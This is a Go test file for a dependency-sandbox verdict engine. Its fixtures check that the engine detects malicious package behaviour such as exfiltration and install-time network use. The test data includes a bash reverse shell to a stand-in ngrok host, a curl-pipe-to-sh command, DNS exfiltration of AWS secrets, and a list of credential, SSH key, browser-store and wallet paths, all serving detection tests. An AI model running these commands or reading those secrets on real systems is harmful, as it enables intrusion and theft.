package verdict

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/depbox/depbox/baseline"
	"github.com/depbox/depbox/profile"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/ and the rule reference in docs/rules.md")

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file (run go test -update after checking):\n--- got\n%s", name, got)
	}
}

type phases = map[string]*profile.Behavior

func dep(name string, ph phases) profile.Dependency {
	return profile.Dependency{Name: name, Version: "1.0.0", Path: "node_modules/" + name, Phases: ph}
}

func prof(deps ...profile.Dependency) *profile.Profile {
	p := &profile.Profile{Schema: profile.Schema, Bundle: profile.Bundle{Name: "fn", Runtime: "nodejs"}, Dependencies: deps}
	p.Canonicalize()
	return p
}

func invoke(b profile.Behavior) phases  { return phases{profile.PhaseInvoke: &b} }
func install(b profile.Behavior) phases { return phases{profile.PhaseInstall: &b} }

func rulesOf(fs []Finding) []string {
	var ids []string
	for _, f := range fs {
		ids = append(ids, f.Rule)
	}
	slices.Sort(ids)
	return slices.Compact(ids)
}

func TestRules(t *testing.T) {
	tcp := func(addr, host string, port int) profile.Endpoint {
		return profile.Endpoint{Address: addr, Host: host, Port: port, Protocol: "tcp", Result: "ok"}
	}
	proc := func(argv ...string) profile.Process { return profile.Process{Argv: argv, Result: "ok"} }
	read := func(p string) profile.File { return profile.File{Path: p, Access: profile.AccessRead} }
	write := func(p string) profile.File { return profile.File{Path: p, Access: profile.AccessWrite} }
	withPath := func(d profile.Dependency, path string) profile.Dependency { d.Path = path; return d }

	tests := []struct {
		name string
		p    *profile.Profile
		want []string // rule IDs, sorted
	}{
		{"clean", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{read("/var/task/node_modules/a/index.js")}}))), nil},
		{"exfiltration", prof(dep("a", invoke(profile.Behavior{Exfiltration: []profile.Exfil{{Canary: "AWS_SECRET_ACCESS_KEY", Channel: "dns", Destination: "x.evil.invalid", Encoding: "hex"}}}))), []string{"DBX001"}},
		{"unattributed exfiltration", prof(dep("a", invoke(profile.Behavior{Unattributed: &profile.Behavior{Exfiltration: []profile.Exfil{{Canary: "DATABASE_URL", Channel: "network", Destination: "192.0.2.1:80", Encoding: "raw"}}}}))), []string{"DBX001", "DBX013"}},
		{"unattributed routine", prof(dep("a", invoke(profile.Behavior{Unattributed: &profile.Behavior{Files: []profile.File{{Path: "/tmp/cache", Access: "write"}}, Network: []profile.Endpoint{tcp("127.0.0.1", "", 6379)}}}))), []string{"DBX014"}},
		{"unattributed shell", prof(dep("a", invoke(profile.Behavior{Unattributed: &profile.Behavior{Processes: []profile.Process{proc("/bin/sh", "-c", "id")}}}))), []string{"DBX007", "DBX013"}},
		{"forged record", prof(dep("a", invoke(profile.Behavior{Forged: []profile.ForgedRecord{{Claim: "fs read as the function: /home/sbx_user/.aws/credentials", Reason: "bad-proof"}}}))), []string{"DBX013"}},
		{"bait proc environ and mem", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{read("/proc/PID/environ"), read("/proc/PID/mem"), read("/proc/PID/task/TID/environ")}}))), []string{"DBX005"}},
		{"not bait proc", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{read("/proc/PID/stat"), read("/proc/self/maps"), read("/proc/meminfo")}}))), nil},
		{"bait aws", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{read("/home/sbx_user/.aws/credentials")}}))), []string{"DBX005"}},
		{"bait npmrc in tmp home", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{{Path: "/tmp/.npmrc", Access: "read", Failed: true}}}))), []string{"DBX005"}},
		{"bait ssh", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{read("/home/sbx_user/.ssh/id_rsa")}}))), []string{"DBX005"}},
		{"bait ssh dir", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{read("/home/sbx_user/.ssh")}}))), []string{"DBX005"}},
		{"bait dotenv", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{read("/var/task/.env")}}))), []string{"DBX005"}},
		{"bait dotenv variant", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{read("/var/task/.env.production")}}))), []string{"DBX005"}},
		{"bait environ", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{read("/proc/self/environ"), read("/proc/1/environ")}}))), []string{"DBX005"}},
		{"bait shadow", prof(dep("a", install(profile.Behavior{Files: []profile.File{{Path: "/etc/shadow", Access: "read-write"}}}))), []string{"DBX005", "DBX012"}},
		{"bait browser stores", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{read("/home/sbx_user/.config/google-chrome/Default/Login Data"), read("/home/sbx_user/.config/google-chrome/Local State"), read("/home/sbx_user/.mozilla/firefox/x.default/key4.db")}}))), []string{"DBX005"}},
		{"bait wallets", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{read("/home/sbx_user/.electrum/wallets/default_wallet"), read("/home/sbx_user/.bitcoin/wallet.dat"), read("/home/sbx_user/.config/solana/id.json")}}))), []string{"DBX005"}},
		{"not bait browser-like names", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{read("/var/task/node_modules/tough-cookie/Cookies"), read("/var/task/data/Local State"), read("/var/task/wallet.js"), read("/tmp/solana/id.json")}}))), nil},
		{"not bait", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{read("/var/task/.envrc"), read("/var/task/environment.js"), read("/etc/passwd")}}))), nil},
		{"secret env and network", prof(dep("a", invoke(profile.Behavior{Env: []string{"AWS_SECRET_ACCESS_KEY"}, Network: []profile.Endpoint{tcp("192.0.2.10", "", 443)}}))), []string{"DBX006"}},
		{"secret env across phases", prof(dep("a", phases{
			profile.PhaseImport: {Env: []string{"GITHUB_TOKEN"}},
			profile.PhaseLinger: {Network: []profile.Endpoint{tcp("10.53.0.3", "t.example.invalid", 80)}},
		})), []string{"DBX006"}},
		{"secret env to aws", prof(dep("a", invoke(profile.Behavior{Env: []string{"AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"}, Network: []profile.Endpoint{tcp("10.53.0.2", "dynamodb.us-east-1.amazonaws.com", 443), tcp("169.254.169.254", "", 80)}}))), nil},
		{"plain env and network", prof(dep("a", invoke(profile.Behavior{Env: []string{"AWS_REGION", "NODE_ENV"}, Network: []profile.Endpoint{tcp("192.0.2.10", "", 443)}}))), nil},
		{"secret env and loopback", prof(dep("a", invoke(profile.Behavior{Env: []string{"DB_PASSWORD"}, Network: []profile.Endpoint{tcp("127.0.0.1", "", 5432), {Address: "/tmp/s.sock", Protocol: "unix"}}}))), nil},
		{"shell", prof(dep("a", invoke(profile.Behavior{Processes: []profile.Process{proc("/bin/sh", "-c", "id")}}))), []string{"DBX007"}},
		{"downloader by binary", prof(dep("a", invoke(profile.Behavior{Processes: []profile.Process{{Argv: []string{}, Binary: "/usr/bin/wget"}}}))), []string{"DBX007"}},
		{"node -e", prof(dep("a", invoke(profile.Behavior{Processes: []profile.Process{proc("node", "-e", "require('http')")}}))), []string{"DBX007"}},
		{"python -c", prof(dep("a", invoke(profile.Behavior{Processes: []profile.Process{proc("/usr/bin/python3.11", "-c", "print(1)")}}))), []string{"DBX007"}},
		{"powershell", prof(dep("a", invoke(profile.Behavior{Processes: []profile.Process{proc("PowerShell.exe", "-enc", "AAA")}}))), []string{"DBX007"}},
		{"node script", prof(dep("a", invoke(profile.Behavior{Processes: []profile.Process{proc("node", "worker.js")}}))), nil},
		{"install script runner", prof(dep("a", install(profile.Behavior{Processes: []profile.Process{proc("sh", "-c", "node-gyp rebuild")}}))), nil},
		{"install reverse shell", prof(dep("a", install(profile.Behavior{Processes: []profile.Process{proc("/bin/sh", "-c", "bash -c 'bash -i >& /dev/tcp/4.tcp.ngrok.invalid/11425 0>&1' || true"), proc("bash", "-c", "bash -i >& /dev/tcp/4.tcp.ngrok.invalid/11425 0>&1")}}))), []string{"DBX007"}},
		{"install build", prof(dep("a", install(profile.Behavior{Processes: []profile.Process{proc("sh", "-c", "node-gyp rebuild"), proc("node-gyp", "rebuild")}}))), []string{"DBX009"}},
		{"install curl", prof(dep("a", install(profile.Behavior{Processes: []profile.Process{proc("sh", "-c", "curl -s https://x.invalid | sh"), proc("curl", "-s", "https://x.invalid"), proc("sh")}}))), []string{"DBX007", "DBX009", "DBX019"}}, // curl piped into sh: remote code
		{"install network", prof(dep("a", install(profile.Behavior{Network: []profile.Endpoint{tcp("10.53.0.2", "x.invalid", 443)}}))), []string{"DBX008"}},
		{"install dns", prof(dep("a", install(profile.Behavior{DNS: []profile.DNSQuery{{Name: "x.invalid", Type: "A"}}}))), []string{"DBX008"}},
		{"install loopback", prof(dep("a", install(profile.Behavior{Network: []profile.Endpoint{tcp("127.0.0.1", "", 9229)}}))), nil},
		{"write task", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{{Path: "/var/task/index.js", Access: "write", Failed: true}}}))), []string{"DBX012"}},
		{"write home", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{write("/home/sbx_user/.bashrc")}}))), []string{"DBX012", "DBX021"}}, // a shell start-up file: persistence
		{"write tmp and devices", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{write("/tmp/a/b"), write("/dev/null"), write("/proc/self/fd/1"), write("/proc/12/fd/2"), write("/dev/pts/0")}}))), nil},
		{"install build output", prof(dep("a", install(profile.Behavior{Files: []profile.File{write("/var/task/node_modules/a/build/Release/a.node")}}))), nil},
		{"install writes elsewhere", prof(dep("a", install(profile.Behavior{Files: []profile.File{write("/var/task/node_modules/b/index.js")}}))), []string{"DBX012"}},
		{"hook tamper", prof(dep("a", invoke(profile.Behavior{Capabilities: []string{"hook-tamper", "eval"}}))), []string{"DBX013"}},
		{"unhooked child", prof(dep("a", invoke(profile.Behavior{Capabilities: []string{"unhooked-child"}}))), []string{"DBX013"}},
		{"unattributed", prof(dep("a", invoke(profile.Behavior{Unattributed: &profile.Behavior{Files: []profile.File{read("/etc/hosts")}}}))), []string{"DBX014"}},
		{"persistence", prof(dep("a", invoke(profile.Behavior{Persistence: []profile.Persistence{{Path: "/tmp/c", WrittenIn: 1, ReadIn: 2}}}))), []string{"DBX017"}},
		{"timeout", prof(dep("a", phases{profile.PhaseImport: {Outcome: &profile.Outcome{Status: "timeout"}}})), []string{"DBX004"}},
		{"killed (out of memory)", prof(dep("a", invoke(profile.Behavior{Outcome: &profile.Outcome{Status: "killed", ExitCode: -1, Error: "SIGKILL"}}))), []string{"DBX004"}},
		{"exited mid-plan", prof(dep("a", phases{profile.PhaseImport: {Outcome: &profile.Outcome{Status: "exited"}}})), []string{"DBX004"}},
		{"no-entry is fine", prof(dep("a", phases{profile.PhaseImport: {Outcome: &profile.Outcome{Status: "no-entry"}}})), nil},
		{"failing install script is fine", prof(dep("a", install(profile.Behavior{Outcome: &profile.Outcome{Status: "error", ExitCode: 1}}))), nil},
		{"unfired timer", prof(dep("a", invoke(profile.Behavior{Timers: []profile.Timer{{DelayMS: 600_000, BroughtForward: true, Unfired: 1}}}))), []string{"DBX004"}},
		{"time bomb acted", prof(dep("a", invoke(profile.Behavior{Timers: []profile.Timer{{DelayMS: 600_000, BroughtForward: true, Did: []string{"file-write /tmp/x", "dns x.invalid"}}}}))), []string{"DBX018"}},
		{"time bomb read a secret", prof(dep("a", invoke(profile.Behavior{Timers: []profile.Timer{{DelayMS: 120_000, BroughtForward: true, Did: []string{"env AWS_SECRET_ACCESS_KEY"}}}}))), []string{"DBX018"}},
		{"cache refresh timer", prof(dep("a", invoke(profile.Behavior{Timers: []profile.Timer{{DelayMS: 60_000, BroughtForward: true, Did: []string{"env NODE_ENV", "file-read /var/task/x.json"}}}}))), nil},
		{"short timer that acted", prof(dep("a", invoke(profile.Behavior{Timers: []profile.Timer{{DelayMS: 5_000, BroughtForward: true, Did: []string{"network x.invalid:443"}}}}))), nil},
		{"load error is fine", prof(dep("a", phases{profile.PhaseImport: {Outcome: &profile.Outcome{Status: "error", Error: "ERR_REQUIRE_ESM"}}})), nil},
		{"nested install path", prof(withPath(dep("a", invoke(profile.Behavior{Processes: []profile.Process{proc("bash")}})), "node_modules/b/node_modules/a")), []string{"DBX007"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := Evaluate(Input{Profile: tt.p}, Options{})
			if got := rulesOf(res.Findings); !slices.Equal(got, tt.want) {
				t.Errorf("rules = %v, want %v\nfindings: %+v", got, tt.want, res.Findings)
			}
			for _, f := range res.Findings {
				if f.Dependency == "" || f.Path == "" || f.Phase == "" || f.Evidence.Event == "" || len(f.Evidence.Values) == 0 || f.Message == "" {
					t.Errorf("finding lacks evidence: %+v", f)
				}
			}
		})
	}
}

func TestAdvisoriesAndProblems(t *testing.T) {
	a := dep("evil", nil)
	a.Advisories = []profile.Advisory{
		{ID: "MAL-2025-1", Kind: "malicious", Severity: "critical", Summary: "Malicious code in evil"},
		{ID: "GHSA-xxxx", Kind: "vulnerability", Severity: "high"},
		{ID: "GHSA-yyyy", Kind: "vulnerability", Severity: "unknown"},
		{ID: "GHSA-zzzz", Kind: "vulnerability", Severity: "low"},
	}
	p := prof(a, dep("b", nil))
	p.IOCMatches = []profile.IOCMatch{
		{Advisory: "MAL-2025-2", Package: "other", Indicator: "evil.invalid", Dependency: "node_modules/b", Phase: "invoke", Observed: "cdn.evil.invalid"},
		// Shared infrastructure is context.
		{Advisory: "MAL-2025-3", Package: "other", Indicator: "github.com", Dependency: "node_modules/evil", Phase: "invoke", Observed: "api.github.com", Context: "shared infrastructure"},
	}
	p.AddProblem(profile.Problem{Code: "event-drops", Message: "12 events dropped", Fatal: true})
	p.AddProblem(profile.Problem{Code: "sandbox-failed", Message: "runsc exited 128", Dependency: "node_modules/b", Fatal: true})
	p.AddProblem(profile.Problem{Code: "slow", Message: "took a while"})
	res := Evaluate(Input{Profile: p}, Options{})
	if !res.Incomplete {
		t.Error("Incomplete = false with fatal problems")
	}
	type key struct {
		rule string
		sev  Severity
		path string
	}
	var got []key
	for _, f := range res.Findings {
		got = append(got, key{f.Rule, f.Severity, f.Path})
	}
	want := []key{
		{"DBX002", Critical, "node_modules/evil"},
		{"DBX003", Critical, "node_modules/b"},
		{"DBX004", Critical, ""},
		{"DBX004", Critical, "node_modules/b"},
		{"DBX015", High, "node_modules/evil"},
		{"DBX015", Medium, "node_modules/evil"},
		{"DBX003", Low, "node_modules/evil"},
		{"DBX015", Low, "node_modules/evil"},
	}
	if !slices.Equal(got, want) {
		t.Errorf("findings = %v\nwant %v", got, want)
	}
	if n := len(res.AtOrAbove(High)); n != 5 {
		t.Errorf("AtOrAbove(High) = %d findings, want 5", n)
	}

	q := prof(dep("a", nil))
	q.Incomplete = true
	if res := Evaluate(Input{Profile: q}, Options{}); !res.Incomplete || len(res.Findings) != 1 || res.Findings[0].Rule != RuleIncomplete {
		t.Errorf("incomplete profile without problems: %+v", res)
	}
}

// base is the accepted behaviour the baseline tests compare with.
func base() *baseline.Baseline {
	return baseline.FromProfile(prof(
		dep("http-client", phases{
			profile.PhaseImport: {Files: []profile.File{{Path: "/var/task/node_modules/http-client/lib.js", Access: "read"}}},
			profile.PhaseInvoke: {
				Env:          []string{"HTTP_PROXY"},
				Network:      []profile.Endpoint{{Address: "10.53.0.2", Host: "api.example.com", Port: 443, Protocol: "tcp"}},
				DNS:          []profile.DNSQuery{{Name: "api.example.com", Type: "A"}},
				Capabilities: []string{"network", "eval"},
			},
		}),
	))
}

func TestBaselineRules(t *testing.T) {
	hc := func(ph phases) profile.Dependency { d := dep("http-client", ph); d.Version = "1.1.0"; return d }
	known := profile.Behavior{
		Env:          []string{"HTTP_PROXY"},
		Network:      []profile.Endpoint{{Address: "10.53.0.7", Host: "api.example.com", Port: 443, Protocol: "tcp"}},
		DNS:          []profile.DNSQuery{{Name: "api.example.com", Type: "A"}},
		Capabilities: []string{"eval", "network"},
	}
	with := func(f func(b *profile.Behavior)) phases {
		b := known
		b.Network = slices.Clone(known.Network)
		b.Env = slices.Clone(known.Env)
		b.Capabilities = slices.Clone(known.Capabilities)
		f(&b)
		return invoke(b)
	}
	tests := []struct {
		name string
		p    *profile.Profile
		want []string
	}{
		{"same", prof(hc(invoke(known))), nil},
		{"new own file read", prof(hc(with(func(b *profile.Behavior) {
			b.Files = append(b.Files, profile.File{Path: "/var/task/node_modules/http-client/new.js", Access: "read"})
		}))), nil},
		{"new host", prof(hc(with(func(b *profile.Behavior) {
			b.Network = append(b.Network, profile.Endpoint{Address: "192.0.2.10", Port: 443, Protocol: "tcp"})
		}))), []string{"DBX010"}},
		{"new dns", prof(hc(with(func(b *profile.Behavior) { b.DNS = append(b.DNS, profile.DNSQuery{Name: "t.example.invalid"}) }))), []string{"DBX010"}},
		{"new port on known host", prof(hc(with(func(b *profile.Behavior) {
			b.Network = append(b.Network, profile.Endpoint{Address: "10.53.0.9", Host: "api.example.com", Port: 8443, Protocol: "tcp"})
		}))), []string{"DBX016"}},
		{"new env", prof(hc(with(func(b *profile.Behavior) { b.Env = append(b.Env, "AWS_SECRET_ACCESS_KEY") }))), []string{"DBX006", "DBX016"}},
		{"new native addon", prof(hc(with(func(b *profile.Behavior) { b.Capabilities = append(b.Capabilities, "native-addon") }))), []string{"DBX011"}},
		{"new process.binding unattributed", prof(hc(with(func(b *profile.Behavior) {
			b.Unattributed = &profile.Behavior{Capabilities: []string{"process.binding"}}
		}))), []string{"DBX011", "DBX014"}},
		{"known capability in another phase", prof(hc(phases{profile.PhaseImport: {Capabilities: []string{"eval"}}})), nil},
		{"new capability not judged by DBX011", prof(hc(with(func(b *profile.Behavior) { b.Capabilities = append(b.Capabilities, "worker") }))), []string{"DBX016"}},
		{"moved install path", prof(func() profile.Dependency {
			d := hc(invoke(known))
			d.Path = "node_modules/x/node_modules/http-client"
			return d
		}()), nil},
		{"new dependency", prof(hc(invoke(known)), dep("newcomer", invoke(profile.Behavior{
			Env:     []string{"HOME"},
			Network: []profile.Endpoint{{Address: "10.53.0.3", Host: "x.example.invalid", Port: 80, Protocol: "tcp"}},
		}))), []string{"DBX010", "DBX016"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := Evaluate(Input{Profile: tt.p, Baseline: base()}, Options{})
			if got := rulesOf(res.Findings); !slices.Equal(got, tt.want) {
				t.Errorf("rules = %v, want %v\nfindings: %+v", got, tt.want, res.Findings)
			}
			if !res.BaselineUsed || len(res.SkippedRules) != 0 || res.Changes == nil {
				t.Errorf("baseline not used: %+v", res)
			}
		})
	}
}

func TestNoBaseline(t *testing.T) {
	p := prof(dep("a", invoke(profile.Behavior{Network: []profile.Endpoint{{Address: "192.0.2.10", Port: 443, Protocol: "tcp"}}})))
	res := Evaluate(Input{Profile: p}, Options{})
	if res.BaselineUsed || !slices.Equal(res.SkippedRules, []string{"DBX010", "DBX011", "DBX016"}) {
		t.Errorf("skipped = %v", res.SkippedRules)
	}
	if len(res.Warnings) != 1 || !strings.Contains(res.Warnings[0], "no baseline") {
		t.Errorf("warnings = %q", res.Warnings)
	}
	if len(res.Findings) != 0 {
		t.Errorf("findings = %+v", res.Findings)
	}
}

func TestIgnore(t *testing.T) {
	p := prof(
		dep("dotenv", invoke(profile.Behavior{Files: []profile.File{{Path: "/var/task/.env", Access: "read"}}})),
		dep("evil", invoke(profile.Behavior{Files: []profile.File{{Path: "/home/sbx_user/.npmrc", Access: "read"}}})),
	)
	now := time.Date(2025, 6, 1, 12, 0, 0, 0, time.UTC)
	tests := []struct {
		name       string
		ignore     []Ignore
		left       []string // paths of remaining findings
		suppressed int
		expired    int
	}{
		{"none", nil, []string{"node_modules/dotenv", "node_modules/evil"}, 0, 0},
		{"by id and name", []Ignore{{Rule: "DBX005", Dependency: "dotenv", Reason: "loads our .env"}}, []string{"node_modules/evil"}, 1, 0},
		{"by slug and path glob", []Ignore{{Rule: "bait-file-read", Dependency: "node_modules/dot*", Reason: "r"}}, []string{"node_modules/evil"}, 1, 0},
		{"any rule", []Ignore{{Rule: "*", Dependency: "evil", Reason: "r"}}, []string{"node_modules/dotenv"}, 1, 0},
		{"any dependency", []Ignore{{Rule: "DBX005", Reason: "r"}}, nil, 2, 0},
		{"other rule", []Ignore{{Rule: "DBX001", Dependency: "dotenv", Reason: "r"}}, []string{"node_modules/dotenv", "node_modules/evil"}, 0, 0},
		{"expires today", []Ignore{{Rule: "DBX005", Dependency: "dotenv", Reason: "r", Expires: "2025-06-01"}}, []string{"node_modules/evil"}, 1, 0},
		{"expired", []Ignore{{Rule: "DBX005", Dependency: "dotenv", Reason: "r", Expires: "2025-05-31"}}, []string{"node_modules/dotenv", "node_modules/evil"}, 0, 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := Evaluate(Input{Profile: p}, Options{Ignore: tt.ignore, Now: now})
			var left []string
			for _, f := range res.Findings {
				left = append(left, f.Path)
			}
			if !slices.Equal(left, tt.left) || len(res.Suppressed) != tt.suppressed || len(res.ExpiredIgnores) != tt.expired {
				t.Errorf("left %v, suppressed %d, expired %d; want %v, %d, %d", left, len(res.Suppressed), len(res.ExpiredIgnores), tt.left, tt.suppressed, tt.expired)
			}
			if tt.expired > 0 && !slices.ContainsFunc(res.Warnings, func(w string) bool { return strings.Contains(w, "expired on 2025-05-31") }) {
				t.Errorf("no expiry warning: %q", res.Warnings)
			}
		})
	}
}

func TestValidateIgnores(t *testing.T) {
	tests := []struct {
		ig   Ignore
		want string // "" = valid
	}{
		{Ignore{Rule: "DBX005", Dependency: "dotenv", Reason: "loads .env", Expires: "2030-01-01"}, ""},
		{Ignore{Rule: "bait-file-read", Reason: "x"}, ""},
		{Ignore{Rule: "*", Dependency: "@aws-sdk/*", Reason: "x"}, ""},
		{Ignore{Rule: "DBX999", Reason: "x"}, "unknown rule"},
		{Ignore{Reason: "x"}, "rule is missing"},
		{Ignore{Rule: "DBX001"}, "reason is required"},
		{Ignore{Rule: "DBX001", Reason: "x", Expires: "31/12/2030"}, "not a date"},
		{Ignore{Rule: "DBX001", Reason: "x", Dependency: "[a"}, "pattern"},
	}
	for _, tt := range tests {
		err := ValidateIgnores([]Ignore{tt.ig})
		switch {
		case tt.want == "" && err != nil:
			t.Errorf("%+v: %v", tt.ig, err)
		case tt.want != "" && (err == nil || !strings.Contains(err.Error(), tt.want)):
			t.Errorf("%+v: error %v, want %q", tt.ig, err, tt.want)
		}
	}
}

func TestSeverity(t *testing.T) {
	for _, s := range Severities {
		got, err := ParseSeverity(strings.ToUpper(s.String()))
		if err != nil || got != s {
			t.Errorf("ParseSeverity(%q) = %v, %v", s, got, err)
		}
		b, _ := json.Marshal(s)
		var back Severity
		if err := json.Unmarshal(b, &back); err != nil || back != s {
			t.Errorf("JSON round trip of %v: %s → %v, %v", s, b, back, err)
		}
	}
	if _, err := ParseSeverity("severe"); err == nil {
		t.Error("ParseSeverity accepted severe")
	}
	if advisorySeverity("unknown") != Medium || advisorySeverity("moderate") != Medium || advisorySeverity("CRITICAL") != Critical {
		t.Error("advisorySeverity mapping")
	}
}

func TestCatalogue(t *testing.T) {
	seen := map[string]bool{}
	for i, r := range Rules() {
		if r.ID == "" || r.Name == "" || r.Severity == 0 || r.Summary == "" || r.Description == "" || r.Rationale == "" || r.Remediation == "" {
			t.Errorf("rule %d is not fully documented: %+v", i, r)
		}
		if seen[r.ID] || seen[r.Name] {
			t.Errorf("duplicate rule %s %s", r.ID, r.Name)
		}
		seen[r.ID], seen[r.Name] = true, true
		if i > 0 && Rules()[i-1].ID >= r.ID {
			t.Errorf("rules not ordered by ID at %s", r.ID)
		}
		if got, ok := Lookup(strings.ToLower(r.ID)); !ok || got.ID != r.ID {
			t.Errorf("Lookup(%s) failed", r.ID)
		}
	}
}

// TestGolden evaluates a profile that triggers most rules and keeps the
// result as JSON.
func TestGolden(t *testing.T) {
	data, err := os.ReadFile(filepath.Join("testdata", "profile.json"))
	if err != nil {
		t.Fatal(err)
	}
	p, err := profile.Read(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	res := Evaluate(Input{Profile: p, Baseline: base()}, Options{
		Ignore: []Ignore{
			{Rule: "DBX017", Dependency: "lru-disk", Reason: "a cache by design"},
			{Rule: "DBX005", Dependency: "dotenv", Reason: "loads our .env", Expires: "2020-01-01"},
		},
		Now: time.Date(2025, 6, 1, 0, 0, 0, 0, time.UTC),
	})
	out, err := json.MarshalIndent(res, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "result.golden.json", append(out, '\n'))
}

// TestBaselineAccepts checks that behaviour recorded in the baseline no
// longer fires the behavioural rules, while the hard rules still do.
func TestBaselineAccepts(t *testing.T) {
	tool := func() profile.Dependency {
		return dep("tool", phases{
			profile.PhaseInstall: {
				Processes: []profile.Process{{Argv: []string{"sh", "-c", "node build.js"}}, {Argv: []string{"node", "build.js"}}},
				DNS:       []profile.DNSQuery{{Name: "dl.example.invalid", Type: "A"}},
			},
			profile.PhaseInvoke: {
				Files: []profile.File{
					{Path: "/var/task/.env", Access: "read"},
					{Path: "/home/sbx_user/.cache/tool/x", Access: "write"},
				},
				Env:          []string{"API_TOKEN"},
				Network:      []profile.Endpoint{{Address: "10.53.0.4", Host: "api.example.invalid", Port: 443, Protocol: "tcp"}},
				Processes:    []profile.Process{{Argv: []string{"sh", "-c", "convert a b"}}},
				Persistence:  []profile.Persistence{{Path: "/tmp/tool/cache", WrittenIn: 1, ReadIn: 2}},
				Capabilities: []string{"hook-tamper"},
				Exfiltration: []profile.Exfil{{Canary: "API_TOKEN", Channel: "network", Destination: "api.example.invalid:443", Encoding: "raw"}},
				Unattributed: &profile.Behavior{Files: []profile.File{{Path: "/etc/hosts", Access: "read"}}},
			},
		})
	}
	p := prof(tool())
	all := rulesOf(Evaluate(Input{Profile: p}, Options{}).Findings)
	if want := []string{"DBX001", "DBX005", "DBX006", "DBX007", "DBX008", "DBX009", "DBX012", "DBX013", "DBX014", "DBX017"}; !slices.Equal(all, want) {
		t.Fatalf("without a baseline: %v, want %v", all, want)
	}
	b := baseline.FromProfile(p)
	if got := rulesOf(Evaluate(Input{Profile: prof(tool()), Baseline: b}, Options{}).Findings); !slices.Equal(got, []string{"DBX001", "DBX013"}) {
		t.Errorf("with the profile as baseline: %v, want only the hard rules DBX001, DBX013", got)
	}
	// A new destination fires the secret rule again, and the new-host rule.
	d := tool()
	d.Phases[profile.PhaseInvoke].Network = append(d.Phases[profile.PhaseInvoke].Network, profile.Endpoint{Address: "192.0.2.10", Port: 443, Protocol: "tcp"})
	if got := rulesOf(Evaluate(Input{Profile: prof(d), Baseline: b}, Options{}).Findings); !slices.Equal(got, []string{"DBX001", "DBX006", "DBX010", "DBX013"}) {
		t.Errorf("with a new destination: %v", got)
	}
	// Behaviour accepted in one phase is not accepted in another.
	d = tool()
	d.Phases[profile.PhaseImport] = &profile.Behavior{Files: []profile.File{{Path: "/var/task/.env", Access: "read"}}}
	if got := rulesOf(Evaluate(Input{Profile: prof(d), Baseline: b}, Options{}).Findings); !slices.Contains(got, "DBX005") {
		t.Errorf("bait read in a new phase not reported: %v", got)
	}
}

func TestNewBehaviourIgnoresDevices(t *testing.T) {
	b := baseline.FromProfile(prof(dep("a", invoke(profile.Behavior{}))))
	p := prof(dep("a", invoke(profile.Behavior{Files: []profile.File{{Path: "/dev/null", Access: "read"}, {Path: "/dev/urandom", Access: "read"}}})))
	if got := Evaluate(Input{Profile: p, Baseline: b}, Options{}).Findings; len(got) != 0 {
		t.Errorf("device reads reported: %+v", got)
	}
}
